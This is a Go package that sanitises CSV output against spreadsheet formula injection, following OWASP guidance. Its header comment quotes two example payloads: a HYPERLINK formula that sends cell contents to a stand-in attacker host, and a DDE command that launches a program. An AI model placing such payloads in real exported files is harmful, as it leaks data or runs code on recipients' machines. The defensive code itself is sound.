// Package csvsafe writes CSV that a spreadsheet opens as data and never as
// a formula: the defence against CSV injection (OWASP "CSV Injection").
// Every CSV the system writes goes through it — pipelinectl's -o csv and
// demo data, the dashboard's downloads — so the rule is in one place.
//
// A spreadsheet evaluates a cell that starts with = + - or @ (and, in some,
// after a leading tab, carriage return or line feed): a candidate named
// =HYPERLINK("https://evil.example/?"&A1,"CV") becomes a live link that
// sends the neighbouring cells away, and =cmd|' /C calc'!A0 runs a program
// in old Excel. The OWASP remedy, which this package follows:
//
//   - a cell whose first character (after any spaces) is one of = + - @
//     TAB CR LF is prefixed with a single quote, so it reads as text: ' =1+1 shows as =1+1 typed
//     as text in Excel and LibreOffice, and a phone number +44 20 7946 0000
//     stays text instead of becoming the number 442079460000;
//   - such a cell, and any cell holding a comma, semicolon, tab, quote or
//     line break, is wrapped in double quotes (inner quotes doubled), so a
//     spreadsheet that splits on ; or tab cannot start a new cell, and so a
//     formula inside the cell;
//   - a cell that is wholly a number as the writers format them (-12,
//     -0.25) is left alone: it is a value, not a formula, and a
//     spreadsheet must still add it up.
//
// Reading back, Plain undoes the prefix for the import reader, so a file
// written by Writer round-trips.
package csvsafe

import (
	"bufio"
	"io"
	"regexp"
	"strings"
)

// number is a number as strconv formats the writers' counts and days.
var number = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)

// Risky reports whether a spreadsheet could read s as a formula: it starts
// with = + - @ tab, carriage return or line feed (after any spaces, which
// some spreadsheets trim on import), and is not just a number.
func Risky(s string) bool {
	t := strings.TrimLeft(s, " ")
	if t == "" || !strings.ContainsRune("=+-@\t\r\n", rune(t[0])) {
		return false
	}
	return !number.MatchString(t)
}

// Cell returns s as it is safe to write: prefixed with a single quote if
// it is Risky.
func Cell(s string) string {
	if Risky(s) {
		return "'" + s
	}
	return s
}

// Plain undoes Cell: a single quote in front of what would be Risky is
// dropped. Anything else is returned as it is.
func Plain(s string) string {
	if rest, ok := strings.CutPrefix(s, "'"); ok && Risky(rest) {
		return rest
	}
	return s
}

// Writer writes CSV records (RFC 4180, "\n" line ends as encoding/csv
// writes them) with every cell made safe by Cell and quoted when it must
// be.
type Writer struct {
	w *bufio.Writer
}

// NewWriter returns a Writer on w; call Flush when done.
func NewWriter(w io.Writer) *Writer { return &Writer{w: bufio.NewWriter(w)} }

// Write writes one record.
func (w *Writer) Write(record []string) error {
	for i, field := range record {
		if i > 0 {
			w.w.WriteByte(',')
		}
		cell := Cell(field)
		if cell == field && !needsQuotes(cell) {
			w.w.WriteString(cell)
			continue
		}
		w.w.WriteByte('"')
		w.w.WriteString(strings.ReplaceAll(cell, `"`, `""`))
		w.w.WriteByte('"')
	}
	_, err := w.w.WriteString("\n")
	return err // bufio keeps the first error; every later write returns it
}

// WriteAll writes records and flushes.
func (w *Writer) WriteAll(records [][]string) error {
	for _, r := range records {
		if err := w.Write(r); err != nil {
			return err
		}
	}
	return w.Flush()
}

// Flush writes what is buffered and returns the first error of any write.
func (w *Writer) Flush() error { return w.w.Flush() }

// needsQuotes is encoding/csv's rule (a comma, quote or line break, or a
// leading space) plus the separators other locales' spreadsheets split on.
func needsQuotes(s string) bool {
	return s == `\.` || strings.ContainsAny(s, ",;\t\"\r\n") || (s != "" && (s[0] == ' '))
}
